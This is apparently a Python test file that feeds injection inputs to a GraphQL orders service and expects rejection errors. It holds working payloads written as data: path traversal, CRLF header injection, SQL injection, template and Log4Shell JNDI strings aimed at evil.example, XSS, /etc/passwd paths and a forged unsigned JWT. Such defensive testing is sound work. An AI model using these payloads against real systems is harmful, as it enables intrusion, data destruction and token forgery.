"""Values that mean something to whoever joins them into an address, a header, a page or a query."""

from collections.abc import Iterator
from typing import Final

from tests.attacks.corpus.attack import (
    BAD_USER_INPUT,
    OK,
    TOKEN,
    VALIDATION,
    Attack,
    asked,
)

BY_ID: Final = "query($id: ID!) { order(id: $id, consistency: {live: true}) { id } }"
IDS: Final = (
    "../admin/faults",
    "..%2fadmin%2ffaults",
    "o-1/cancel",
    "o-1?x=1",
    "o-1#x",
    "o-1%00",
    "o-1\r\nX-Evil: 1",
    "http://127.0.0.1:1/",
    "//evil.example/o-1",
    "' OR '1'='1",
    '"; DROP TABLE orders; --',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "o-1\u202e",
    "*",
    "",
    ".",
    "o" * 65,
)
TEXTS: Final = (
    "line\r\nSet-Cookie: a=b",
    "<img src=x onerror=alert(1)>",
    "\u0000",
    "\ud83d\ude00" * 200,
    "x" * 100_000,
)
HEADERS: Final = {
    "X-Request-Id": ("a\tb", "<script>", "x" * 5_000, "../../etc/passwd"),
    "traceparent": ("00-zz-zz-01", "x" * 5_000, "00-" + "0" * 32 + "-" + "0" * 16 + "-01"),
    "X-Deadline-Ms": ("-1", "1e9", "999999999999", "0x10", "NaN"),
    "X-Forwarded-For": ("evil", "192.0.2.1, " * 500),
    "If-None-Match": ("*", '"' * 4_000),
}
TOKENS: Final = {
    "garbage": "x",
    "a prefix alone": "ct1",
    "ones": "ct1" + "_" * 60,
    "three kilobytes": "ct1" + "A" * 3_000,
    "a list of a thousand": ",".join(["ct1AAAA"] * 1_000),
    "padding": "=" * 40,
    "another kind": "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzdGFmZiJ9.",
}


def injections() -> Iterator[Attack]:
    """All of them."""
    for at, value in enumerate(IDS):
        yield asked(f"id {at}: {value[:20]!r}", BY_ID, BAD_USER_INPUT, variables={"id": value})
    change = (
        'mutation($n: String) { updateOrder(input: {id: "o-0", note: $n}) { userErrors { code } } }'
    )
    for at, value in enumerate(TEXTS):
        yield asked(
            f"note {at}: {value[:20]!r}", change, OK, BAD_USER_INPUT, variables={"n": value}
        )
    for name, values in HEADERS.items():
        for at, value in enumerate(values):
            line = f"{name}: {value}\r\n"
            yield asked(
                f"{name} {at}",
                '{ order(id: "o-1") { id } }',
                OK,
                "DEADLINE_EXCEEDED",
                "UPSTREAM_TIMEOUT",
                headers=line,
            )
    for name, token in TOKENS.items():
        line = f"X-Consistency-Token: {token}\r\n"
        yield asked(f"token: {name}", '{ order(id: "o-1") { id } }', TOKEN, headers=line)
    yield asked(
        "tokens of an argument",
        '{ order(id: "o-1", consistency: {atLeast: {tokens: ["x"]}, live: true}) { id } }',
        VALIDATION,
        BAD_USER_INPUT,
        TOKEN,
    )
